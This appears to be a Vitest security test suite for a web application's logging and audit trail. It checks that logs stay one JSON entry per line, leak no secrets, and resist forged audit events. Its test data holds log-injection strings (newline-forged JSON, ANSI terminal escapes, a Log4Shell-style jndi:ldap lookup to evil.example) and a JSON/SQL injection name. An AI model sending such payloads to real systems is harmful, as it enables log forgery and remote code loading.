import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { identityContract as identity } from '#features/identity/contract.ts';
import { ledgerContract as ledger } from '#features/ledger/contract.ts';
import { createSignInLink } from '#features/identity/public.ts';
import { createLog, prettyLine } from '#platform/log.ts';
import { systemContext } from '../../../src/installation.ts';
import { client, testServer, type TestServer } from '../../server.ts';
import { makeInstitution, type Institution } from '../institution.ts';
import { attackerOf, bodiesWith, textFields, tried, withBody, type Attacker } from './attacks.ts';

let test: TestServer;
let mine: Institution;
let attacker: Attacker;
const written: string[] = [];

beforeAll(async () => {
  test = await testServer({}, createLog({ level: 'trace', format: 'json', destination: { write: (line) => void written.push(line) } }));
  mine = await makeInstitution(test, test.tenantId, 'first', 'zebra');
  attacker = attackerOf(mine);
});
afterAll(() => test.close());

/** A line of the log as somebody would like it to stand there, in the ways to begin one. */
const forged = '{"level":30,"time":"2026-01-01T00:00:00Z","msg":"forged","person":"admin"}';
const hostile = [`x\n${forged}`, `x\r\n${forged}`, `x","msg":"forged`, `x\u2028${forged}`, `x\u001b[2K\u001b[1A${forged}`, `x\u0000${forged}`, `\${jndi:ldap://evil.example/a}%s%d%o`];
const isEntry = (line: string) => /^[^\n]*\n$/.test(line) && typeof (JSON.parse(line) as { level?: unknown }).level === 'number';

async function attack(): Promise<void> {
  for (const [index, endpoint] of tried.filter((row) => row.carries !== 'events').entries()) {
    const text = hostile[index % hostile.length]!;
    const send = await attacker.sample(endpoint);
    const fields = textFields(endpoint.query, text);
    if (fields.length > 0) await attacker.call(endpoint, { ...send, query: { ...send.query, ...Object.fromEntries(fields.map((name) => [name, text])) } });
    if (endpoint.path.includes('/:')) await attacker.client().call(endpoint, { ...send, params: Object.fromEntries(Object.keys(send.params ?? {}).map((name) => [name, text])) });
    if (withBody.includes(endpoint)) await attacker.call(endpoint, { ...send, body: bodiesWith(endpoint, send.body, hostile.map((own) => () => own))[0]?.body ?? { ...(send.body as object), name: text } });
  }
  for (const text of hostile) {
    const word = text.replaceAll(/[\r\n\0\u2028]/g, ' ');
    await client(test.server, '', '').call(identity.signIn, { body: { login: text, password: text, institution: text }, headers: { 'user-agent': word, referer: word } });
    await test.server.inject({ method: 'GET', url: `/${encodeURIComponent(text)}?${encodeURIComponent(text)}`, headers: { accept: 'text/html', 'user-agent': word, 'x-forwarded-for': word, host: word } });
    await test.server.inject({ method: 'GET', url: '/api/v1/systems', headers: { cookie: `yuanshu_session=${encodeURIComponent(text)}`, authorization: word } });
  }
}

describe('the log', () => {
  it('has one entry a line, whatever strangers write into names, addresses and headers', async () => {
    written.splice(0);
    await attack();
    // What the database refuses and what nobody may is written down with what was asked.
    await (await test.signIn(test.tenantId)).call(ledger.listSystems, { headers: { 'user-agent': hostile[2]! } });
    expect(written.length).toBeGreaterThan(100);
    expect(written.filter((line) => !isEntry(line))).toEqual([]);
    expect(written.filter((line) => (JSON.parse(line) as { msg?: string }).msg?.includes('forged'))).toEqual([]);
  });

  it('for people has one line an entry, too, but for the stack of an error, and steers no terminal', () => {
    for (const line of written) {
      const shown = prettyLine(line);
      expect(shown.split('\n').slice(1, -1).filter((part) => !part.startsWith('  '))).toEqual([]);
      expect(shown.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
    }
  });

  it('says when and what in every entry, and of a refusal who and to which question', async () => {
    written.splice(0);
    const who = await test.signIn(test.tenantId);
    const refused = await who.call(ledger.createSystem, { body: { code: 'NO', name: 'no' } });
    expect(refused.status).toBe(403);
    const entries = written.map((line) => JSON.parse(line) as Record<string, unknown>);
    for (const entry of entries) expect(entry).toMatchObject({ level: expect.any(Number), time: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/), msg: expect.any(String) });
    expect(entries).toContainEqual(expect.objectContaining({ msg: 'refused', tenant: test.tenantId, person: who.personId, permission: 'ledger.write', endpoint: 'ledger.createSystem' }));
  });

  it('holds no secret, at its most talkative: no password, session, link, token or key', async () => {
    written.splice(0);
    const link = await createSignInLink(systemContext(test.running.app, test.tenantId), mine.personId);
    const linkSecret = link.url.split('.').at(-1)!;
    const entered = await client(test.server, '', '').call(identity.signInByLink, { body: { token: link.url.split('#link=')[1]! } });
    const sessionSecret = decodeURIComponent(String(entered.headers['set-cookie']).split(';')[0]!).split('.').at(-1)!;
    const { secret } = await attacker.client().ok(identity.createToken, { body: { name: 'quiet', scopes: ['ledger.read'], expiresInDays: 1 } });
    const tokenSecret = String(secret).split('.').at(-1)!;
    await client(test.server, '', '', { authorization: `Bearer ${secret}` }).call(ledger.listSystems, { query: { limit: 'x' } });
    await client(test.server, '', '').call(identity.signIn, { body: { login: mine.login, password: 'Secret-Horse-9', institution: 'first' } });
    await client(test.server, '', '').call(identity.signIn, { body: { login: mine.login, password: ['Secret-Horse-9'], institution: 'first' } });
    await client(test.server, '', `yuanshu_session=${encodeURIComponent(`${test.tenantId}.ses_00000000000000000000000000.${sessionSecret}`)}`).call(ledger.listSystems);
    const all = written.join('');
    expect(all.length).toBeGreaterThan(100);
    for (const text of [linkSecret, sessionSecret, tokenSecret, 'Secret-Horse-9', 'argon2']) expect([text.slice(0, 4), all.includes(text)]).toEqual([text.slice(0, 4), false]);
    expect(JSON.stringify([entered.body, entered.text])).not.toContain(sessionSecret);
  });
});

describe('the trace', () => {
  it('has one event a write, with what was written as it was: no text makes a second one or another actor', async () => {
    const name = `"},{"action":"identity.signed-in","actor":"per_forged"}');--`;
    const count = async () => (await test.running.app.db.withTenant(test.tenantId, (tx) => tx.query<{ count: number }>(`select count(*)::int as count from audit_event`)))[0]!.count;
    const before = await count();
    const system = await attacker.client().ok(ledger.createSystem, { body: { code: 'TRACE-1', name, description: name } });
    expect(await count()).toBe(before + 1);
    const events = await test.running.app.db.withTenant(test.tenantId, (tx) => tx.query<{ text: string; actor: string }>(`select to_jsonb(e)::text as text, e.actor_id as actor from audit_event e where object_id = $1`, [system.id]));
    expect(events.map((event) => event.actor)).toEqual([attacker.client().personId]);
    expect(events[0]!.text).toContain(JSON.stringify(name).slice(1, -1));
  });

  it('keeps the name that a stranger tried as the object of his refusal, and takes none that is no name', async () => {
    const events = () => test.running.app.db.withTenant(test.tenantId, (tx) => tx.query<{ objectId: string }>(`select object_id as "objectId" from audit_event where action = 'identity.sign-in-refused'`));
    const before = (await events()).length;
    for (const text of hostile) await client(test.server, '', '').call(identity.signIn, { body: { login: text, password: 'x', institution: 'first' } });
    expect((await events()).length).toBe(before);
    await client(test.server, '', '').call(identity.signIn, { body: { login: 'Not.Known-1', password: 'x', institution: 'first' } });
    expect((await events()).slice(before).map((event) => event.objectId)).toEqual(['not.known-1']);
  });
});
